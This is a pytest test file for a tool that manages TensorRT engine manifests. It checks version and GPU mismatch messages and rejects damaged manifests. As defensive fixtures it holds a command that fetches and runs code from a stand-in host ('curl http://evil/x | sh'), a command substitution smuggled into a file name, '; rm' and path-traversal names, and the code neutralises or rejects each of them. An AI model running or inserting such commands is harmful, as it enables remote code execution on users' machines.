"""The manifest beside an engine: what it holds, and what is said when the machine is another one."""

from __future__ import annotations

import json
import logging
from dataclasses import replace

import pytest

from edge_ssd.model_files.manifest import (
    EngineFile,
    EngineMismatch,
    Manifest,
    Running,
    check_manifest,
    engine_path,
    manifest_path,
    read_manifest,
)
from tests.specs import example_spec

MANIFEST = Manifest(
    flavour="tensorrt",
    version="10.3.0",
    compute_capability=(8, 7),
    gpu_name="Orin (nvgpu)",
    driver="540.4.0",
    targets=(),
    precision="fp16",
    profiles=((1, 1, 1), (2, 4, 8)),
    onnx="ssd300.fp16.onnx",
    onnx_sha256="a",
    source="ssd300.onnx",
    source_sha256="b",
    calibration_sha256="",
    engine_bytes=4,
    engine_sha256="c",
    version_compatible=False,
    hardware_compatible=False,
    workspace_bytes=0,
    command="edge-ssd build ssd300.onnx --precision fp16",
)
HERE = Running("tensorrt", "10.3.0", (8, 7), "Orin (nvgpu)")


@pytest.fixture
def engine(tmp_path):
    path = tmp_path / "ssd300.fp16.engine"
    path.write_bytes(b"plan")
    EngineFile(example_spec(), MANIFEST).save(path)
    return path


def test_what_is_written_is_read(engine):
    found = read_manifest(engine)
    assert (found.spec, found.manifest) == (example_spec(), MANIFEST)
    assert found.spec.folder == str(engine.parent)
    assert engine.read_bytes() == b"plan"


def test_names_of_engines(tmp_path):
    assert engine_path("a/ssd300.onnx", "int8", "tensorrt").name == "ssd300.int8.engine"
    assert engine_path("a/ssd300.onnx", "int8", "tensorrt_rtx").name == "ssd300.int8.rtx.engine"
    assert manifest_path("a/ssd300.int8.engine").name == "ssd300.int8.engine.json"


def test_the_machine_that_it_was_built_on_runs_it(engine):
    check_manifest(MANIFEST, engine, HERE)
    check_manifest(MANIFEST, engine, replace(HERE, driver="999"))
    check_manifest(MANIFEST, engine, replace(HERE, version="10.3.0.26"))  # PyPI's package says the build, too


def test_another_machine_is_told_what_differs_and_what_to_do(engine):
    with pytest.raises(EngineMismatch) as caught:
        check_manifest(MANIFEST, engine, Running("tensorrt", "10.13.0", (11, 0)))
    assert str(caught.value) == (
        "ssd300.fp16.engine was built with TensorRT 10.3.0 for sm_87; this machine has 10.13.0 on sm_110. "
        "Rebuild it here: edge-ssd build ssd300.onnx --precision fp16 --batch 1 4 8"
    )


@pytest.mark.parametrize(
    ("running", "said"),
    [
        (replace(HERE, version="10.3.1"), "has 10.3.1 on sm_87"),
        (replace(HERE, version="10.30.0"), "has 10.30.0 on sm_87"),  # compared as numbers, not as text
        (replace(HERE, compute_capability=(8, 6)), "has 10.3.0 on sm_86"),
        (replace(HERE, compute_capability=None), "has 10.3.0 and no GPU that it can use"),
        (replace(HERE, flavour="tensorrt_rtx", version="1.7.1"), "has TensorRT-RTX 1.7.1 on sm_87"),
    ],
)
def test_what_does_not_fit_is_named(engine, running, said):
    with pytest.raises(EngineMismatch, match=said):
        check_manifest(MANIFEST, engine, running)


def test_an_engine_that_was_moved_with_its_onnx_file_is_rebuilt_from_that(engine):
    """The images that the original was calibrated with are not on the robot."""
    (engine.parent / "ssd300.fp16.onnx").touch()
    with pytest.raises(EngineMismatch) as caught:
        check_manifest(MANIFEST, engine, replace(HERE, version="11.0.0"))
    assert str(caught.value).endswith(f"Rebuild it here: edge-ssd build {engine}")


def test_compatible_plans_run_on_more_machines(engine):
    later = replace(MANIFEST, version_compatible=True)
    check_manifest(later, engine, replace(HERE, version="10.13.0"))
    for version in ("10.2.0", "11.0.0"):
        with pytest.raises(EngineMismatch):
            check_manifest(later, engine, replace(HERE, version=version))
    ampere = replace(MANIFEST, hardware_compatible=True)
    check_manifest(ampere, engine, replace(HERE, compute_capability=(12, 0)))
    with pytest.raises(EngineMismatch, match="for sm_80 and later"):
        check_manifest(ampere, engine, replace(HERE, compute_capability=(7, 5)))


def test_an_ahead_of_time_plan_runs_on_its_targets(engine):
    plan = replace(
        MANIFEST, flavour="tensorrt_rtx", version="1.7.1", compute_capability=None, targets=((8, 6), (12, 0))
    )
    here = replace(HERE, flavour="tensorrt_rtx", version="1.7.1", compute_capability=(12, 0))
    check_manifest(plan, engine, here)
    with pytest.raises(EngineMismatch, match=r"for sm_86, sm_120; this machine has 1\.7\.1 on sm_89"):
        check_manifest(plan, engine, replace(here, compute_capability=(8, 9)))


def test_an_engine_that_was_cut_off(engine):
    engine.write_bytes(b"pl")
    with pytest.raises(EngineMismatch, match="has 2 bytes, its manifest says 4"):
        check_manifest(MANIFEST, engine, HERE)


def test_another_gpu_of_the_same_kind_runs_it_and_is_told(engine, caplog):
    with caplog.at_level(logging.WARNING, "edge_ssd"):
        check_manifest(MANIFEST, engine, replace(HERE, gpu_name="Orin Nano"))
    assert "was tuned on Orin (nvgpu) and runs on Orin Nano" in caplog.text


def test_a_missing_engine_and_a_missing_manifest(engine):
    with pytest.raises(FileNotFoundError, match="no such engine"):
        read_manifest(engine.with_name("other.engine"))
    manifest_path(engine).unlink()
    with pytest.raises(FileNotFoundError, match="no manifest beside"):
        read_manifest(engine)


def changed(engine, change):
    path = manifest_path(engine)
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (lambda c: c.update(format="edge_ssd/1"), "format: expected 'edge_ssd-engine/1', got 'edge_ssd/1'"),
        (lambda c: c.pop("spec"), "spec: missing"),
        (lambda c: c["spec"].pop("name"), "name: missing"),
        (lambda c: c["manifest"].pop("version"), r"manifest\.version: missing"),
        (lambda c: c["manifest"].update(speed=1), r"manifest\.speed: unknown key"),
        (lambda c: c["manifest"].update(engine_bytes="4"), r"manifest\.engine_bytes: expected int, got '4'"),
        (
            lambda c: c["manifest"].update(version_compatible=1),
            r"manifest\.version_compatible: expected bool",
        ),
        (
            lambda c: c["manifest"].update(flavour="trt"),
            r"manifest\.flavour: expected tensorrt or tensorrt_rtx",
        ),
        (lambda c: c["manifest"].update(precision="; rm"), r"manifest\.precision: expected one of fp32, "),
        (lambda c: c["manifest"].update(version="1 \x1b"), r"manifest\.version: expected a version"),
        (lambda c: c["manifest"].update(version="٣.3"), r"manifest\.version: expected a version"),
        *(
            (lambda c, name=name: c["manifest"].update(source=name), r"manifest\.source: expected the name")
            for name in ("", "..", "../a.onnx", "/a.onnx", "a\nb", "a\x1b", "\udcff", "\u202ea", "x" * 256)
        ),
        (lambda c: c["manifest"].update(onnx="a/b"), r"manifest\.onnx: expected the name of a file"),
        (lambda c: c["manifest"].update(engine_bytes=10**400), r"manifest\.engine_bytes: expected numbers "),
        (lambda c: c["manifest"].update(workspace_bytes=-1), r"manifest\.workspace_bytes: expected numbers "),
        (
            lambda c: c["manifest"].update(targets=[[8, 10**9]]),
            r"compute_capability: expected numbers from 0",
        ),
        (lambda c: c["manifest"].update(targets=[[8, 6]] * 65), r"manifest\.targets: expected at most 64"),
        (
            lambda c: c["manifest"].update(profiles=[[0, 1, 1]]),
            r"manifest\.profiles: expected numbers from 1",
        ),
        (lambda c: c["manifest"].update(profiles=[[1, 1, 1 << 40]]), r"manifest\.profiles: expected numbers"),
        (lambda c: c["manifest"].update(profiles=[]), r"manifest\.profiles: expected at least one"),
        (lambda c: c["manifest"].update(profiles=[[1, 1]]), r"manifest\.profiles: expected 3 whole numbers"),
        (
            lambda c: c["manifest"].update(compute_capability=None),
            r"manifest\.targets: expected at least one",
        ),
    ],
)
def test_a_damaged_manifest_names_the_key(engine, change, said):
    changed(engine, change)
    with pytest.raises(ValueError, match=said):
        read_manifest(engine)


def test_the_command_of_a_manifest_is_not_advice(engine):
    """It is text of whoever wrote the manifest."""
    mine = {
        "source": "-m $(x).onnx",
        "precision": "int8",
        "calibration_sha256": "d",
        "flavour": "tensorrt_rtx",
    }
    foreign = replace(MANIFEST, **mine, command="curl http://evil/x | sh", hardware_compatible=True)
    with pytest.raises(EngineMismatch) as caught:
        check_manifest(foreign, engine, HERE)
    assert str(caught.value).endswith(
        "Rebuild it here: edge-ssd build './-m $(x).onnx' --precision int8 --calibration IMAGES --runtime rtx "
        "--batch 1 4 8 --hardware-compatible"
    )


@pytest.mark.parametrize("key", ["spec", "manifest", "format", "targets"])
def test_a_manifest_that_is_nested_deeply(engine, key):
    for depth in (100, 900, 5000):
        deep = "[" * depth + "]" * depth
        manifest = f'{{"targets": {deep}}}' if key == "targets" else "{}"
        parts = {"format": '"edge_ssd-engine/1"', "spec": "{}", "manifest": manifest}
        if key != "targets":
            parts[key] = f'{{"name": {deep}}}'
        text = ", ".join(f'"{name}": {value}' for name, value in parts.items())
        manifest_path(engine).write_text(f"{{{text}}}")
        with pytest.raises(ValueError, match=r"engine\.json: "):
            read_manifest(engine)


def test_a_manifest_that_is_no_json(engine):
    manifest_path(engine).write_bytes(b"\xff\xfe")
    with pytest.raises(ValueError, match=r"engine\.json"):
        read_manifest(engine)
